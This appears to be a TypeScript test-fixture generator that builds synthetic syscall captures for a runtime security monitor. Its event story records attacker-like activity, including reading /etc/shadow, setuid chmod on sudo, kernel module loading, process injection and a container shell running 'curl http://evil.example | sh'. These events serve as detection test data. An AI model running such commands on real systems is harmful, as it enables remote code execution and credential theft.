/**
 * Generates scap fixtures from first principles (no captured binaries): a process/fd/user
 * snapshot and a VigilEvent stream that covers every event type the scap codec maps, processes
 * inside a container (cgroup in the process list), reparenting after a parent exits, fd number
 * reuse and cwd-relative paths. `node --import tsx test/scap/generate.ts OUT.scap [REPEAT]`
 * writes it to a file (REPEAT copies of the event story, with fresh tids, for benchmarks).
 */
import { writeFileSync } from 'node:fs';
import type { ArgValue, VigilEvent } from '../../src/events/event.js';
import { eventByName } from '../../src/events/event-table.js';
import type { ContainerInfo, FdInfo } from '../../src/state/types.js';
import type { SeedThread } from '../../src/scap/seed.js';
import { encodeScap, type CaptureSnapshot } from '../../src/scap/writer.js';

export const CONTAINER_ID = 'c0ffee1234567890abcdef1234567890abcdef1234567890abcdef1234567890';
export const CONTAINER_CGROUP = `/docker/${CONTAINER_ID}`;
const T0 = 1_700_000_000_000_000_000n;

export const CONTAINER: ContainerInfo = {
  id: CONTAINER_ID.slice(0, 12), fullId: CONTAINER_ID, type: 'docker', name: 'web-1', image: 'registry.example/web/nginx:1.25',
  imageRepository: 'registry.example/web/nginx', imageTag: '1.25', imageId: '0123456789ab', privileged: false,
  labels: { 'io.kubernetes.pod.namespace': 'shop', 'io.kubernetes.pod.name': 'web-7d9f', 'io.kubernetes.pod.uid': 'a1b2c3' },
  k8sNamespace: 'shop', k8sPodName: 'web-7d9f', k8sPodUid: 'a1b2c3',
};

function thread(p: Partial<SeedThread> & Pick<SeedThread, 'tid' | 'ptid' | 'comm' | 'exe'>): SeedThread {
  const cgroup = p.cgroup ?? '/user.slice';
  return {
    pid: p.tid, sid: p.tid, vpgid: p.tid, exepath: p.exe, args: [], env: ['PATH=/usr/bin:/bin'], cwd: '/', fdlimit: 1024,
    uid: 0, gid: 0, loginuid: 0xffffffff, vtid: p.tid, vpid: p.tid, root: '/', tty: 0,
    capInheritable: 0n, capPermitted: 0x1ffffffffffn, capEffective: 0x1ffffffffffn, execFlags: 0, exeIno: 0,
    exeInoCtime: 0n, exeInoMtime: 0n, pidnsInitStartTs: 0n,
    ...p,
    cgroups: ['cpuset', 'cpu', 'memory'].map((s) => `${s}=${cgroup}`),
    cgroup,
  };
}

const file = (num: number, name: string, openFlags = 2): FdInfo => ({ num, type: 'file', name, nameRaw: name, openFlags });

export function baseSnapshot(offset = 0): CaptureSnapshot {
  const o = offset;
  const threads = [
    thread({ tid: 1, ptid: 0, comm: 'systemd', exe: '/sbin/init', cgroup: '/' }),
    thread({ tid: 100 + o, ptid: 1, comm: 'sshd', exe: '/usr/sbin/sshd', args: ['-D'], cgroup: '/system.slice/ssh.service' }),
    thread({ tid: 200 + o, ptid: 100 + o, comm: 'bash', exe: '-bash', cwd: '/root', tty: 34816, loginuid: 0 }),
    thread({ tid: 300 + o, ptid: 1, comm: 'containerd-shim', exe: '/usr/bin/containerd-shim-runc-v2', args: ['-namespace', 'moby'], cgroup: '/system.slice/containerd.service' }),
    thread({ tid: 400 + o, ptid: 300 + o, comm: 'nginx', exe: 'nginx', args: ['-g', 'daemon off;'], uid: 101, gid: 101, vtid: 1, vpid: 1, cwd: '/', cgroup: CONTAINER_CGROUP }),
  ];
  const fds = [
    { pid: 200 + o, fd: file(0, '/dev/pts/0') },
    { pid: 200 + o, fd: file(1, '/dev/pts/0') },
    { pid: 200 + o, fd: file(2, '/dev/pts/0') },
    { pid: 100 + o, fd: { num: 3, type: 'ipv4', name: '0.0.0.0:22', nameRaw: '', openFlags: 0, sip: '0.0.0.0', sport: 22, l4proto: 'tcp', family: 2 } as FdInfo },
    { pid: 400 + o, fd: file(5, '/var/log/nginx/access.log', 0o2001) },
  ];
  return {
    machine: { numCpus: 2, memoryBytes: 4 * 1024 ** 3, maxEventSize: 65536, hostname: 'vigil-test' },
    interfaces: [{ name: 'lo', family: 2, addr: '127.0.0.1', netmask: '255.0.0.0' }, { name: 'eth0', family: 2, addr: '10.0.0.1', netmask: '255.255.255.0' }],
    threads,
    fds,
    users: [
      { uid: 0, gid: 0, name: 'root', home: '/root', shell: '/bin/bash' },
      { uid: 101, gid: 101, name: 'nginx', home: '/var/cache/nginx', shell: '/sbin/nologin' },
      { uid: 1000, gid: 1000, name: 'bob', home: '/home/bob', shell: '/bin/bash' },
    ],
    groups: [{ gid: 0, name: 'root' }, { gid: 101, name: 'nginx' }, { gid: 1000, name: 'bob' }],
    // The container table libsinsp saves with a capture (one JSON event per container).
    containers: offset === 0 ? [CONTAINER] : [],
  };
}

interface Proc { pid: number; tid: number; ppid: number; comm: string; uid: number; gid: number; cgroup: string; vtid: number; vpid: number; loginuid: number; tty: number }

/** The event story; `o` shifts every tid so repeated stories do not collide. */
function story(o: number, tsBase: bigint): VigilEvent[] {
  const out: VigilEvent[] = [];
  let ts = tsBase;
  const procs = new Map<number, Proc>();
  const seedProc = (tid: number, ppid: number, comm: string, extra: Partial<Proc> = {}): void => {
    procs.set(tid, { pid: tid, tid, ppid, comm, uid: 0, gid: 0, cgroup: '/user.slice', vtid: tid, vpid: tid, loginuid: 0xffffffff, tty: 0, ...extra });
  };
  seedProc(100 + o, 1, 'sshd', { cgroup: '/system.slice/ssh.service' });
  seedProc(200 + o, 100 + o, 'bash', { tty: 34816, loginuid: 0 });
  seedProc(300 + o, 1, 'containerd-shim', { cgroup: '/system.slice/containerd.service' });
  seedProc(400 + o, 300 + o, 'nginx', { uid: 101, gid: 101, vtid: 1, vpid: 1, cgroup: CONTAINER_CGROUP });

  const ev = (tid: number, name: string, ret: number, args: Record<string, ArgValue>): void => {
    const p = procs.get(tid)!;
    ts += 1000n;
    out.push({
      id: eventByName(name)!.id, name, ts, cpu: tid % 2, pid: p.pid, tid, ppid: p.ppid, vpid: p.vpid, vtid: p.vtid, vppid: p.ppid === 1 ? 1 : procs.get(p.ppid)?.vpid ?? 0,
      uid: p.uid, gid: p.gid, loginuid: p.loginuid, comm: p.comm, tty: p.tty, mntns: 0, pidns: 0, cgroupId: 0, cgroup: p.cgroup, ret, args,
    });
  };
  const spawn = (parent: number, child: number, name = 'clone', flags = 0x1200011): void => {
    ev(parent, name, child, { flags, child_tid: child, child_pid: child });
    const p = procs.get(parent)!;
    procs.set(child, { ...p, pid: child, tid: child, ppid: p.pid, vtid: p.vpid === p.pid ? child : p.vtid + 10, vpid: p.vpid === p.pid ? child : p.vpid + 10 });
    // The child's own return from clone, as the kernel reports it (libsinsp needs it for children in a pid namespace).
    ev(child, name, 0, { flags, child_tid: child, child_pid: child });
  };
  const exec = (tid: number, exe: string, args: string[], comm: string, cwd: string, extra: Record<string, ArgValue> = {}): void => {
    procs.get(tid)!.comm = comm;
    ev(tid, 'execve', 0, { exe, args, env: ['PATH=/usr/bin:/bin', 'HOME=/root'], cwd, comm, filename: exe, flags: 0, uid: procs.get(tid)!.uid, gid: procs.get(tid)!.gid, loginuid: procs.get(tid)!.loginuid, tty: procs.get(tid)!.tty, pgid: tid, ...extra });
  };
  const bash = 200 + o, cat = 201 + o, sh = 202 + o, nginx = 400 + o, worker = 401 + o, sshd = 100 + o;
  const AT = -100;
  const O_RDONLY = 0, O_WRONLY = 1, O_RDWR = 2, O_CREAT = 0o100, O_TRUNC = 0o1000, O_CLOEXEC = 0o2000000;

  // A shell spawns cat on a sensitive file (host).
  spawn(bash, cat);
  exec(cat, '/usr/bin/cat', ['/etc/shadow'], 'cat', '/root');
  ev(cat, 'openat', 3, { fd: 3, dirfd: AT, name: '/etc/shadow', flags: O_RDONLY, mode: 0, dev: 2049, ino: 1234 });
  ev(cat, 'openat', 4, { fd: 4, dirfd: AT, name: 'notes.txt', flags: O_WRONLY | O_CREAT | O_TRUNC, mode: 0o644, dev: 2049, ino: 99 });
  ev(cat, 'close', 0, { fd: 3 });
  ev(cat, 'open', 3, { fd: 3, name: '/etc/passwd', flags: O_RDONLY | O_CLOEXEC, mode: 0, dev: 2049, ino: 1235 });
  ev(cat, 'openat', -2, { fd: -2, dirfd: AT, name: '/nonexistent/file', flags: O_RDONLY, mode: 0 });
  ev(cat, 'creat', 5, { fd: 5, name: '/tmp/created.txt', mode: 0o600, dev: 2049, ino: 5 });
  ev(cat, 'openat2', 6, { fd: 6, dirfd: AT, name: '/etc/hosts', flags: O_RDWR, mode: 0, resolve: 0x0c /* RESOLVE_BENEATH|RESOLVE_NO_SYMLINKS */ });
  ev(cat, 'dup', 7, { fd: 7, oldfd: 5 });
  ev(cat, 'dup2', 8, { fd: 8, oldfd: 5, newfd: 8 });
  ev(cat, 'dup3', 9, { fd: 9, oldfd: 5, newfd: 9, flags: O_CLOEXEC });
  ev(cat, 'unlink', 0, { path: '/tmp/old.txt' });
  ev(cat, 'unlinkat', 0, { dirfd: AT, name: 'scratch', flags: 0x200 /* AT_REMOVEDIR */ });
  ev(cat, 'rename', 0, { oldpath: '/tmp/a', newpath: '/tmp/b' });
  ev(cat, 'renameat', 0, { olddirfd: AT, oldpath: '/etc/cron.d/x', newdirfd: AT, newpath: '/etc/cron.d/y' });
  ev(cat, 'renameat2', 0, { olddirfd: AT, oldpath: '/tmp/c', newdirfd: AT, newpath: '/tmp/d', flags: 1 });
  ev(cat, 'mkdir', 0, { path: '/tmp/newdir', mode: 0o755 });
  ev(cat, 'mkdirat', 0, { dirfd: AT, path: '/root/.ssh', mode: 0o700 });
  ev(cat, 'rmdir', 0, { path: '/tmp/newdir' });
  ev(cat, 'link', 0, { oldpath: '/etc/shadow', newpath: '/tmp/shadow-link' });
  ev(cat, 'linkat', 0, { olddir: AT, oldpath: '/etc/passwd', newdir: AT, newpath: '/tmp/passwd-link', flags: 0x400 /* AT_SYMLINK_FOLLOW */ });
  ev(cat, 'symlink', 0, { target: '/etc/shadow', linkpath: '/tmp/sym' });
  ev(cat, 'symlinkat', 0, { target: '/proc/self/root', linkdirfd: AT, linkpath: '/tmp/rootlink' });
  ev(cat, 'chmod', 0, { filename: '/tmp/created.txt', mode: 0o4755 });
  ev(cat, 'fchmod', 0, { fd: 5, mode: 0o777 });
  ev(cat, 'fchmodat', 0, { dirfd: AT, filename: '/usr/bin/sudo', mode: 0o4755 });
  ev(cat, 'memfd_create', 10, { fd: 10, name: 'payload', flags: 3 /* MFD_CLOEXEC|MFD_ALLOW_SEALING */ });
  // Network.
  ev(cat, 'socket', 11, { fd: 11, domain: 2, type: 1, proto: 6 });
  const remote = { family: 2, addr: '10.0.0.5', port: 443 };
  ev(cat, 'connect', 0, { fd: 11, addr: remote, local: { family: 2, addr: '10.0.0.1', port: 40000 } });
  ev(cat, 'sendto', 64, { fd: 11, size: 64, addr: remote });
  ev(cat, 'recvfrom', 32, { fd: 11, size: 512, addr: remote });
  ev(cat, 'sendmsg', 16, { fd: 11, size: 16, addr: remote });
  ev(cat, 'recvmsg', 16, { fd: 11, size: 16, addr: remote });
  ev(sshd, 'bind', 0, { fd: 3, addr: { family: 2, addr: '0.0.0.0', port: 22 } });
  ev(sshd, 'listen', 0, { fd: 3, backlog: 128 });
  ev(sshd, 'accept', 4, { fd: 4, listenfd: 3, addr: { family: 2, addr: '192.168.1.10', port: 55555 }, local: { family: 2, addr: '10.0.0.1', port: 22 } });
  ev(sshd, 'accept4', 5, { fd: 5, listenfd: 3, addr: { family: 2, addr: '192.168.1.11', port: 55556 }, local: { family: 2, addr: '10.0.0.1', port: 22 }, flags: 0o2000000 });
  // Privilege and memory.
  ev(cat, 'ptrace', 0, { request: 16, pid: nginx, addr: 0, data: 0 });
  ev(cat, 'setuid', 0, { uid: 0 });
  ev(cat, 'setgid', 0, { gid: 0 });
  ev(cat, 'setresuid', 0, { ruid: 0, euid: 0, suid: 0 });
  ev(cat, 'setresgid', 0, { rgid: 0, egid: 0, sgid: 0 });
  ev(cat, 'mmap', 0x7f0000000000, { addr: 0, length: 4096, prot: 7, flags: 0x22, fd: -1, offset: 0 });
  ev(cat, 'mprotect', 0, { addr: 0x7f0000000000, length: 4096, prot: 5 });
  ev(cat, 'init_module', 0, { length: 8192, uargs: '' });
  ev(cat, 'finit_module', 0, { fd: 4, uargs: '', flags: 0 });
  ev(cat, 'bpf', 12, { cmd: 5 });
  ev(cat, 'mount', 0, { dev: '/dev/sda1', dir: '/mnt', type: 'ext4', flags: 0 });
  ev(cat, 'umount2', 0, { name: '/mnt', flags: 2 /* MNT_DETACH */ });
  ev(cat, 'setns', 0, { fd: 4, nstype: 0x20000 });
  ev(cat, 'unshare', 0, { flags: 0x10000000 });
  ev(cat, 'chroot', 0, { path: '/mnt' });
  ev(cat, 'kill', 0, { pid: 1, sig: 9 });
  ev(cat, 'process_vm_writev', 0, { pid: nginx });
  // Other ways to start processes.
  spawn(bash, sh, 'fork', 0);
  procs.get(sh)!.comm = 'sh';
  ev(sh, 'execveat', 0, { dirfd: AT, exe: 'sh', args: ['-c', 'id'], env: [], cwd: '/root', comm: 'sh', filename: '/bin/sh', flags: 0, uid: 0, gid: 0, loginuid: 0, tty: 34816, pgid: sh });
  spawn(sh, 203 + o, 'vfork', 0x4100);
  spawn(sh, 204 + o, 'clone3', 0x1200000);
  // Inside the container: nginx forks a worker that runs a shell.
  spawn(nginx, worker);
  exec(worker, '/bin/sh', ['-c', 'curl http://evil.example | sh'], 'sh', '/');
  ev(worker, 'openat', 3, { fd: 3, dirfd: AT, name: '/etc/nginx/nginx.conf', flags: O_RDONLY, mode: 0, dev: 2050, ino: 7 });
  ev(worker, 'openat', 4, { fd: 4, dirfd: AT, name: 'relative/inside.txt', flags: O_WRONLY | O_CREAT, mode: 0o600, dev: 2050, ino: 8 });
  // The shell exits: cat is reparented, keeps working, then everyone exits.
  ev(bash, 'procexit', 0, { status: 0, reaper_tid: 1 });
  procs.get(cat)!.ppid = 1;
  ev(cat, 'openat', 3, { fd: 3, dirfd: AT, name: '/etc/sudoers', flags: O_RDONLY, mode: 0, dev: 2049, ino: 11 });
  ev(cat, 'procexit', 0, { status: 0, reaper_tid: 0 });
  ev(worker, 'procexit', 0, { status: 9, reaper_tid: 0 });
  return out;
}

/** The snapshot and event stream; `repeat` > 1 appends more copies of the story with new tids. */
export function generateCapture(repeat = 1): { snapshot: CaptureSnapshot; events: VigilEvent[] } {
  const snapshot = baseSnapshot();
  const events: VigilEvent[] = [];
  for (let i = 0; i < repeat; i++) {
    const o = i * 1000;
    if (i > 0) {
      const extra = baseSnapshot(o);
      snapshot.threads.push(...extra.threads.slice(1));
      snapshot.fds.push(...extra.fds);
    }
    events.push(...story(o, T0 + BigInt(i) * 1_000_000_000n));
  }
  return { snapshot, events };
}

/** Every vigil event name the story emits. */
export function generatedEventNames(): Set<string> {
  return new Set(generateCapture().events.map((e) => e.name));
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const [out, repeat] = process.argv.slice(2);
  if (!out) {
    console.error('usage: generate.ts OUT.scap [REPEAT]');
    process.exit(2);
  }
  const { snapshot, events } = generateCapture(Number(repeat ?? 1));
  writeFileSync(out, encodeScap(snapshot, events));
  console.log(`${out}: ${events.length} events`);
}
